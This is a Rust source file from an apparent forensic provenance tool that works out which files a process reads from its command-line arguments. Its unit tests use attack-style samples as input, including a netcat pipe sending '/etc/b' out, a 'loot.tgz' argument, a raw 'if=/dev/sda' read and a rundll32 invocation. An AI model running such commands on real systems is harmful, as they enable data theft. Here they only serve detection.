//! Arguments that name files: what a process reads, as far as its command line can say.

use saigen_schemas::event::Text;

use crate::graph::build::{GraphBuilder, Says, Scene};
use crate::graph::places::file_name;
use crate::graph::store::FileId;
use crate::graph::{Ground, NodeId, Verb};
use crate::replay::{ProcessFacts, UnitId};

/// Most arguments of a process that are looked at as names of files.
const ARGS_MAX: usize = 64;

/// Longer arguments are data.
const TEXT_MAX: usize = 16 << 10;

/// Programs that take names of files and do not read what is in them.
const NOT_READERS: [&[u8]; 17] = [
    b"rm", b"unlink", b"rmdir", b"chmod", b"chown", b"chgrp", b"touch", b"mkdir", b"ls", b"stat",
    b"test", b"[", b"ln", b"mv", b"echo", b"printf", b"find",
];

/// Shells: what the text of their command names is named again by the programs that they start.
const SHELLS: [&[u8]; 6] = [b"sh", b"bash", b"dash", b"zsh", b"ksh", b"ash"];

/// Most files that one argument, a program's text, is searched for.
const WORDS_MAX: usize = 32;

impl GraphBuilder {
    /// Files that the arguments of a process name, and that were written since recording began:
    /// it reads them, as far as arguments can say.
    pub(super) fn names_files(&mut self, scene: &Scene<'_>, unit: UnitId, node: NodeId) {
        let Some(facts) = scene.replay.facts(unit) else {
            return;
        };
        let Some(args) = facts.args else {
            self.line_names_files(scene, &facts, node);
            return;
        };
        let program = facts
            .image
            .map(|image| file_name(image.0))
            .unwrap_or_default();
        if NOT_READERS.contains(&program) {
            return;
        }
        let cwd = facts.cwd.unwrap_or_default();
        let mut output = false;
        for arg in args.iter().skip(1).take(ARGS_MAX) {
            let is_output = std::mem::replace(&mut output, is_output_option(arg));
            if is_output || is_output_value(arg) || arg.0.len() > TEXT_MAX {
                continue;
            }
            let mut path = std::mem::take(&mut self.scratch);
            path_of(cwd.0, arg.0, &mut path);
            let file = self.changed_file_at(facts.host, &path);
            self.scratch = path;
            self.reads_by_name(scene, file, node);
            if file.is_none() && !SHELLS.contains(&program) {
                for path in paths_in(arg.0) {
                    let file = self.changed_file_at(facts.host, path);
                    self.reads_by_name(scene, file, node);
                }
            }
        }
    }

    /// The same of a command line that is one text.
    fn line_names_files(&mut self, scene: &Scene<'_>, facts: &ProcessFacts<'_>, node: NodeId) {
        let Some(line) = facts.command_line.filter(|line| line.0.len() <= TEXT_MAX) else {
            return;
        };
        let cwd = facts.cwd.unwrap_or_default().0;
        let mut path = std::mem::take(&mut self.scratch);
        for word in words_of(line.0).skip(1).take(ARGS_MAX) {
            path.clear();
            let whole = word.get(1) == Some(&b':') || word.starts_with(br"\\");
            if !whole {
                path.extend_from_slice(cwd.strip_suffix(br"\").unwrap_or(cwd));
                path.push(b'\\');
            }
            let below = word.strip_prefix(br".\").unwrap_or(word);
            path.extend_from_slice(below);
            // `x.dll,Entry`, `x.dll#1`: the file is what stands before.
            let cuts = path.iter().enumerate().skip(3);
            let cut = cuts
                .filter(|(_, byte)| matches!(byte, b',' | b'#'))
                .map(|(at, _)| at);
            let ends: Vec<usize> = [path.len()].into_iter().chain(cut.take(1)).collect();
            let file = ends.into_iter().find_map(|end| {
                self.changed_file_at(facts.host, path.get(..end).unwrap_or_default())
            });
            self.reads_by_name(scene, file, node);
        }
        self.scratch = path;
    }

    fn reads_by_name(&mut self, scene: &Scene<'_>, file: Option<FileId>, node: NodeId) {
        if let Some(file) = file.and_then(|file| self.file_node(file)) {
            let says = Says {
                verb: Verb::Read,
                ground: Ground::Arguments,
            };
            self.link(scene, file, node, says);
        }
    }
}

/// The words of a Windows command line: split at spaces outside of quotes, without the quotes,
/// also behind a `=` or `:` that opens a value.
fn words_of(line: &[u8]) -> impl Iterator<Item = &[u8]> {
    let mut quoted = false;
    let parts = line.split(move |&byte| {
        quoted ^= byte == b'"';
        !quoted
            && matches!(
                byte,
                b' ' | b'\t' | b'=' | b'(' | b')' | b';' | b'\'' | b'&' | b'|'
            )
    });
    parts
        .flat_map(|part| part.split(|&byte| byte == b'"'))
        .map(<[u8]>::trim_ascii)
        .filter(|part| part.len() > 2)
}

/// Absolute paths inside an argument that is a text of its own, a program for an interpreter;
/// without those behind `>`, which are written.
fn paths_in(text: &[u8]) -> impl Iterator<Item = &[u8]> {
    let mut before = b' ';
    text.chunk_by(|&one, &other| is_path_byte(one) == is_path_byte(other))
        .filter(move |part| {
            let path = part.starts_with(b"/") && part.len() > 1 && before != b'>';
            before = part.last().copied().unwrap_or(before);
            path
        })
        .take(WORDS_MAX)
}

/// Whether a byte may stand in a path of a command line, unquoted.
pub(super) fn is_path_byte(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'.' | b'_' | b'-' | b'+' | b'@' | b'~')
}

/// Whether the next argument names what is written.
fn is_output_option(arg: Text<'_>) -> bool {
    matches!(
        arg.0,
        b"-o" | b"-O" | b"--output" | b"-of" | b"--output-document"
    )
}

/// Whether an argument itself names what is written.
fn is_output_value(arg: Text<'_>) -> bool {
    arg.0.starts_with(b"of=") || arg.0.starts_with(b"--output")
}

/// The path that an argument may mean: `@file`, `key=file`, relative to the working directory.
fn path_of(cwd: &[u8], arg: &[u8], path: &mut Vec<u8>) {
    path.clear();
    let value = match arg.iter().position(|&byte| byte == b'=') {
        Some(equals) => arg.get(equals + 1..).unwrap_or_default(),
        None => arg,
    };
    let value = value.strip_prefix(b"@").unwrap_or(value);
    let value = value.strip_prefix(b"file://").unwrap_or(value);
    if value.is_empty() || value.starts_with(b"-") {
        return;
    }
    if !value.starts_with(b"/") {
        path.extend_from_slice(cwd.strip_suffix(b"/").unwrap_or(cwd));
    }
    for part in value.split(|&byte| byte == b'/') {
        match part {
            b"" | b"." => {}
            b".." => {
                let up = path.iter().rposition(|&byte| byte == b'/');
                path.truncate(up.unwrap_or(0));
            }
            name => {
                path.push(b'/');
                path.extend_from_slice(name);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_inside_a_program_are_found() {
        let text =
            b"open(F,'/tmp/a');print >>/tmp/out;system(\"cat /etc/b|nc x\"); / $x=http://h/p";
        let found: Vec<_> = paths_in(text).collect();
        assert_eq!(found, [b"/tmp/a".as_slice(), b"/etc/b", b"//h/p"]);
    }

    #[test]
    fn a_windows_command_line_falls_into_words() {
        let line = br#""C:\Program Files\a.exe" /i="C:\Users\x y\b.msi" rundll32 c.dll,Run"#;
        let found: Vec<String> = words_of(line)
            .map(|word| String::from_utf8_lossy(word).into_owned())
            .collect();
        assert_eq!(
            found,
            [
                r"C:\Program Files\a.exe",
                r"C:\Users\x y\b.msi",
                "rundll32",
                "c.dll,Run"
            ]
        );
    }

    #[test]
    fn arguments_are_paths_from_the_working_directory() {
        for (arg, expected) in [
            ("/tmp/x", "/tmp/x"),
            ("x.sh", "/srv/www/x.sh"),
            ("./x.sh", "/srv/www/x.sh"),
            ("../x", "/srv/x"),
            ("../../../../x", "/x"),
            ("@loot.tgz", "/srv/www/loot.tgz"),
            ("if=/dev/sda", "/dev/sda"),
            ("file=@/tmp/a", "/tmp/a"),
            ("-x", ""),
            ("", ""),
        ] {
            let mut path = Vec::new();
            path_of(b"/srv/www", arg.as_bytes(), &mut path);
            assert_eq!(path, expected.as_bytes(), "{arg}");
        }
    }
}
